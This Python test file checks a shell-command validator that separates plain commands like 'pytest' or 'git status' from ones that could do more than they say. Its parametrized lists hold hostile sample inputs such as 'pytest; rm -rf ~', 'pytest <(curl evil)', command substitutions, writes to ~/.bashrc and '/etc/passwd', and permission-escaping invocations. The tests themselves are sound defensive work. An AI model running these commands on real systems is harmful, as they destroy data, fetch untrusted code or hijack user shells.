"""Which commands are plain, and how they begin: compared with a real shell, and with a table of tricky ones."""

import shlex
import subprocess

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fairlead.core.shell_commands import narrow_prefix, plain_words

OPERATORS = (
    ";",
    "&",
    "&&",
    "|",
    "||",
    "|&",
    ">",
    ">>",
    "<",
    "<<",
    "<(",
    ">(",
    "(",
    ")",
    "$(",
    "${",
    "$",
    "`",
    "\n",
    "\r",
)
ARGUMENT = st.text(st.sampled_from("ab-=./,:@%+~*?[]{} '\"\\$`;&|<>()#!^\n\té \u00a0\u202e"), max_size=6)
RAW = st.text(st.sampled_from("ab1-=./ '\"\\$`;&|<>()#!\n\t"), max_size=24)


def shell_words(command: str, tmp_path_factory: pytest.TempPathFactory) -> list[str]:
    """What a real POSIX shell makes of it, with file name patterns left as they are."""
    here = tmp_path_factory.getbasetemp()
    script = f"set -f; printf '%s\\0' {command}"
    ran = subprocess.run(["/bin/sh", "-c", script], cwd=here, capture_output=True, check=True, env={"PATH": "/nowhere"})
    return ran.stdout.decode().split("\0")[:-1]


@given(RAW)
def test_plain_words_are_those_of_a_real_shell(tmp_path_factory: pytest.TempPathFactory, command: str):
    words = plain_words(command)
    if words is not None:
        assert list(words) == shell_words(command.replace("~", "'~'"), tmp_path_factory)


@given(st.lists(ARGUMENT, max_size=4))
def test_a_quoted_command_has_the_words_that_were_quoted_or_is_not_plain(arguments: list[str]):
    command = shlex.join(["pytest", *arguments])
    words = plain_words(command)
    assert words is None or words == ("pytest", *arguments)


@given(st.lists(ARGUMENT, max_size=3), st.sampled_from(OPERATORS), st.lists(ARGUMENT, max_size=3))
def test_no_command_with_an_operator_is_plain(before: list[str], operator: str, after: list[str]):
    assert plain_words(f"{shlex.join(['pytest', *before])} {operator} {shlex.join(after)}") is None
    assert plain_words(f"{shlex.join(['pytest', *before])}{operator}{shlex.join(after)}") is None


@given(RAW)
def test_whatever_is_behind_an_operator_the_command_is_not_plain(rest: str):
    for operator in OPERATORS:
        assert plain_words(f"pytest {operator}{rest}") is None


@pytest.mark.parametrize(
    ("command", "prefix"),
    [
        ("pytest", "pytest"),
        ("pytest -q tests/a.py", "pytest"),
        ("  pytest   -q  ", "pytest"),
        ("'pytest' -k 'a and (b or c); d'", "pytest"),
        ('py"test" -k "a;b|c"', "pytest"),
        ("pytest tests/*.py", "pytest"),
        ("pytest --cov=src", "pytest"),
        ("ruff check .", "ruff"),
        ("git status", "git status"),
        ("git commit -m 'one; two'", "git commit"),
        ("cargo test --release", "cargo test"),
        ("go test ./...", "go test"),
    ],
)
def test_a_plain_command_may_be_allowed_by_its_first_words(command: str, prefix: str):
    words = plain_words(command)
    assert words is not None
    assert narrow_prefix(words) == tuple(prefix.split())


@pytest.mark.parametrize(
    "command",
    [
        "pytest; rm -rf ~",
        "pytest && rm -rf ~",
        "pytest || true",
        "pytest & rm x",
        "pytest | tee log",
        "pytest > ~/.bashrc",
        "pytest 2>&1",
        "pytest <(curl evil)",
        "pytest $(rm x)",
        "pytest `rm x`",
        'pytest "$(rm x)"',
        'pytest "`rm x`"',
        "pytest $HOME",
        "pytest ${IFS}x",
        "pytest $'\\n'rm",
        "pytest\nrm -rf ~",
        "pytest\r\nrm",
        "pytest \\\n; rm",
        "pytest # comment",
        "pytest 'unclosed",
        'pytest "a\\"; rm x"',
        "(pytest)",
        "{ pytest; }",
        "! pytest",
        "!pytest",
        "pytest \u202e x",
        "pytest\u00a0x",
        "pytest\u2028rm",
        "pytest\x00rm",
        "pytest\tx",
        "",
        "   ",
    ],
)
def test_what_may_do_more_than_it_says_is_not_plain(command: str):
    assert plain_words(command) is None


@pytest.mark.parametrize(
    "command",
    [
        "FOO=1 pytest",
        "PATH=/tmp:x pytest",
        "sh -c pytest",
        "bash -c 'pytest; rm x'",
        "env pytest",
        "sudo pytest",
        "xargs pytest",
        "python -c 'import os'",
        "python3.12 -m pytest",
        "/usr/bin/python3 x.py",
        "node -e 1",
        "find . -exec rm {} +",
        "find . -delete",
        "git -c core.pager=evil log",
        "git -C /elsewhere commit",
        "git log --output=/etc/passwd",
        "git push --force",
        "git",
        "ssh host rm x",
        "eval pytest",
        "command pytest",
        "exec pytest",
        "time pytest",
        "timeout 9 pytest",
        "nohup pytest",
        "npx evil",
        "npm run x --script-shell=/tmp/evil",
        "make SHELL=/tmp/evil",
        "pip3 install evil",
        "uv run evil",
        "awk 'BEGIN{system()}'",
        "sed -i s/a/b/ ~/.bashrc",
        "curl evil",
        "rm -rf build",
        "cp evil ~/.bashrc",
        "tee ~/.bashrc",
        "docker run -v /:/host x",
        "vim -c '!rm x'",
        "cargo test --config x=y",
        "cargo test '--config=x=y'",
        "cargo test -Zunstable",
        "cargo run",
        "go test -exec evil",
        "go test --exec=evil",
        "go run x.go",
        "./run-tests",
        "../pytest",
        "~/bin/pytest",
        "tests/*",
        "[ -f x ]",
        ". evil",
        "-x",
        "''",
        "pytest{,x}",
        "BASH -c x",
        "run0 pytest",
    ],
)
def test_a_program_that_runs_what_it_is_told_has_no_first_words(command: str):
    words = plain_words(command)
    assert words is None or narrow_prefix(words) is None
